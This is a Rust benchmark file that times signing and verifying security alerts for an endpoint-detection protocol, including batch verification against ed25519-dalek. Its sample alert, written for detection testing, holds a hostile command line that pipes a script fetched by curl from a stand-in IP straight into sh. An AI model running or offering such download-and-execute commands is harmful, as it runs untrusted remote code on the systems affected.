//! Encode+sign and verify+decode of a realistic alert (the per-alert work an agent
//! and the collector do). Run: `cargo bench -p ward-protocol --bench alert`.

#![allow(clippy::unwrap_used, clippy::expect_used)]

use std::net::{IpAddr, Ipv4Addr};

use criterion::{Criterion, criterion_group, criterion_main};
use ring::rand::SystemRandom;
use ward_protocol::*;

fn realistic_alert() -> Alert {
    Alert {
        id: AlertId(Id128::from_u128(0x0190_0000_0000_0000_0000_0000_0000_0001)),
        device_id: DeviceId(Id128::from_u128(42)),
        seq: 1234,
        observed_at_ms: 1_760_000_000_000,
        last_observed_at_ms: 1_760_000_000_000,
        rule: RuleRef {
            id: "3e3ee0f4-8b85-4c1f-9f0d-3d4c2c0f9b11".into(),
            title: "Download and execute via curl piped to shell".into(),
            author: "Ward detection team".into(),
            severity: Severity::High,
            techniques: vec!["T1059.004".into(), "T1105".into()],
            tactics: vec!["TA0002".into(), "TA0011".into()],
        },
        entities: vec![
            Entity::Device {
                hostname: "build-server-17.corp.example".into(),
            },
            Entity::User {
                name: "deploy".into(),
                uid: Some(1001),
            },
            Entity::Process {
                pid: 48211,
                ppid: 48190,
                start_time_ms: 1_760_000_000_000,
                exe: "/usr/bin/bash".into(),
                cmdline: "bash -c curl -fsSL http://203.0.113.7/install.sh | sh".into(),
                sha256: Some([0x5a; 32]),
            },
            Entity::Ip {
                addr: IpAddr::V4(Ipv4Addr::new(203, 0, 113, 7)),
            },
            Entity::Url {
                url: "http://203.0.113.7/install.sh".into(),
            },
        ],
        count: 1,
        matched: vec![
            MatchedField {
                name: "Image".into(),
                value: "/usr/bin/bash".into(),
            },
            MatchedField {
                name: "CommandLine".into(),
                value: "bash -c curl -fsSL http://203.0.113.7/install.sh | sh".into(),
            },
        ],
    }
}

fn bench(c: &mut Criterion) {
    let (key, _) = SigningKey::generate(&SystemRandom::new()).expect("key generation");
    let public = key.public_key();
    let alert = realistic_alert();
    let signed = key.sign_value(SignatureKind::Alert, &alert).expect("encode");
    let mut group = c.benchmark_group("alert");
    group.bench_function("encode_sign", |b| {
        b.iter(|| {
            key.sign_value(SignatureKind::Alert, std::hint::black_box(&alert))
                .expect("encode")
        })
    });
    group.bench_function("verify_decode", |b| {
        b.iter(|| {
            std::hint::black_box(&signed)
                .open::<Alert>(SignatureKind::Alert, &public)
                .expect("verify")
        })
    });
    let batch: Vec<Signed> = (0..250)
        .map(|seq| {
            let mut a = alert.clone();
            a.seq = seq;
            key.sign_value(SignatureKind::Alert, &a).expect("encode")
        })
        .collect();
    let refs: Vec<&Signed> = batch.iter().collect();
    group.throughput(criterion::Throughput::Elements(250));
    group.bench_function("verify_batch_250", |b| {
        b.iter(|| sign::verify_batch(SignatureKind::Alert, &public, std::hint::black_box(&refs)).expect("verify"))
    });
    // What the collector ran before: ed25519-dalek's batch for any keys (2n + 1 points).
    let messages: Vec<Vec<u8>> = batch
        .iter()
        .map(|s| [SignatureKind::Alert.domain_tag(), s.payload.as_slice()].concat())
        .collect();
    let message_refs: Vec<&[u8]> = messages.iter().map(Vec::as_slice).collect();
    let sigs: Vec<ed25519_dalek::Signature> = batch
        .iter()
        .map(|s| ed25519_dalek::Signature::from_slice(&s.signature).expect("64 bytes"))
        .collect();
    let vk = ed25519_dalek::VerifyingKey::from_bytes(&public.0).expect("key");
    let keys = vec![vk; batch.len()];
    group.bench_function("dalek_verify_batch_250", |b| {
        b.iter(|| ed25519_dalek::verify_batch(std::hint::black_box(&message_refs), &sigs, &keys).expect("verify"))
    });
    group.finish();
}

criterion_group!(benches, bench);
criterion_main!(benches);
